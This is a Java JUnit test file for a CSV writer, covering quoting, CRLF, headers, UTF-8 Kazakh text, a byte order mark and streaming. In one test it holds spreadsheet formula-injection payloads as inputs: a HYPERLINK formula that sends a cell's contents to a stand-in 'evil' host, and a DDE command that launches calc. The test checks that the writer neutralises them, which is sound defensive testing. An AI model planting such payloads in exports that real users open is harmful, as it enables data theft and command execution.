package kz.appeals.common;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.annotation.JsonInclude;
import com.fasterxml.jackson.annotation.JsonPropertyOrder;
import com.fasterxml.jackson.annotation.JsonUnwrapped;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** The one CSV writer: RFC 4180 quoting, CRLF, header from the row record, UTF-8, BOM on request, streaming. */
class CsvBodyWriterTest {

    @JsonPropertyOrder({"code", "name", "rate", "at", "missing"})
    record Row(String code, String name, BigDecimal rate, OffsetDateTime at,
               @JsonInclude(JsonInclude.Include.NON_NULL) Long missing) {
    }

    record Figures(long received, BigDecimal rate) {
    }

    record Wrapped(String period, @JsonUnwrapped Figures figures) {
    }

    private static String csv(CsvTable<?> table) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvBodyWriter.write(table, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    @DisplayName("fields with a comma, a quote or a line break are quoted, others are not; CRLF ends every line")
    void quoting() throws IOException {
        String text = csv(CsvTable.of(Row.class, List.of(
                new Row("PVL", "a,b", new BigDecimal("0.8300"), OffsetDateTime.parse("2025-03-11T10:00:00+05:00"), null),
                new Row("EKB", "say \"hi\"", null, null, 7L),
                new Row("AKT", "two\r\nlines", BigDecimal.ONE, null, null))));
        assertThat(text).isEqualTo("code,name,rate,at,missing\r\n"
                + "PVL,\"a,b\",0.8300,2025-03-11T10:00:00+05:00,\r\n"
                + "EKB,\"say \"\"hi\"\"\",,,7\r\n"
                + "AKT,\"two\r\nlines\",1,,\r\n");
    }

    @Test
    @DisplayName("text a spreadsheet would run as a formula (=, +, -, @, tab first) gets an apostrophe; numbers and plain text do not")
    void formulasAreText() throws IOException {
        String text = csv(CsvTable.of(Row.class, List.of(
                new Row("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "@SUM(1)", new BigDecimal("-5"), null, -7L),
                new Row("+x", "-1.5", null, null, null),
                new Row("\tTAB", "- dash then text", null, null, null),
                new Row("PVL", "a = b", null, null, null))));
        assertThat(text).isEqualTo("code,name,rate,at,missing\r\n"
                + "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'@SUM(1),-5,,-7\r\n"
                + "'+x,-1.5,,,\r\n"
                + "'\tTAB,'- dash then text,,,\r\n"
                + "PVL,a = b,,,\r\n");
        assertThat(CsvBodyWriter.safe("=cmd|'/c calc'!A1")).isEqualTo("'=cmd|'/c calc'!A1");
        assertThat(CsvBodyWriter.safe("+77012345678")).as("a phone number in E.164 is a number").isEqualTo("+77012345678");
        assertThat(CsvBodyWriter.safe(null)).isNull();
    }

    @Test
    @DisplayName("an empty table still names its columns; unwrapped records add their columns in place")
    void headerAndUnwrapped() throws IOException {
        assertThat(csv(CsvTable.of(Row.class, List.of()))).isEqualTo("code,name,rate,at,missing\r\n");
        assertThat(csv(CsvTable.of(Wrapped.class, List.of(new Wrapped("2025", new Figures(3, new BigDecimal("0.5000")))))))
                .isEqualTo("period,received,rate\r\n2025,3,0.5000\r\n");
    }

    @Test
    @DisplayName("Cyrillic and Kazakh text is UTF-8, with U+FEFF first when the table asks for it")
    void utf8AndBom() throws IOException {
        Row row = new Row("PVL", "Өтініш: жылу жоқ / Нет отопления", null, null, null);
        CsvTable<Row> plain = CsvTable.of(Row.class, List.of(row));
        CsvTable<Row> bom = new CsvTable<>() {
            @Override
            public Class<Row> rowType() {
                return Row.class;
            }

            @Override
            public void rows(RowSink<Row> sink) throws IOException {
                plain.rows(sink);
            }

            @Override
            public boolean byteOrderMark() {
                return true;
            }
        };
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvBodyWriter.write(bom, out);
        byte[] bytes = out.toByteArray();
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8)).isEqualTo(csv(plain));
        assertThat(csv(plain)).contains("Өтініш: жылу жоқ / Нет отопления");
    }

    @Test
    @DisplayName("rows reach the stream as they come, and the stream is left open for the caller")
    void streams() throws IOException {
        int[] closed = {0};
        ByteArrayOutputStream sink = new ByteArrayOutputStream();
        OutputStream out = new OutputStream() {
            @Override
            public void write(int b) {
                sink.write(b);
            }

            @Override
            public void write(byte[] b, int off, int len) {
                sink.write(b, off, len);
            }

            @Override
            public void close() {
                closed[0]++;
            }
        };
        CsvTable<Row> many = new CsvTable<>() {
            @Override
            public Class<Row> rowType() {
                return Row.class;
            }

            @Override
            public void rows(RowSink<Row> rows) throws IOException {
                for (int i = 0; i < 50_000; i++) {
                    rows.accept(new Row("R" + i, "row " + i, null, null, null));
                    if (i == 10_000) {
                        // far past the writer's buffer: earlier rows are already out
                        assertThat(sink.size()).isGreaterThan(100_000);
                    }
                }
            }
        };
        CsvBodyWriter.write(many, out);
        assertThat(closed[0]).isZero();
        assertThat(sink.toString(StandardCharsets.UTF_8).split("\r\n")).hasSize(50_001);
    }
}
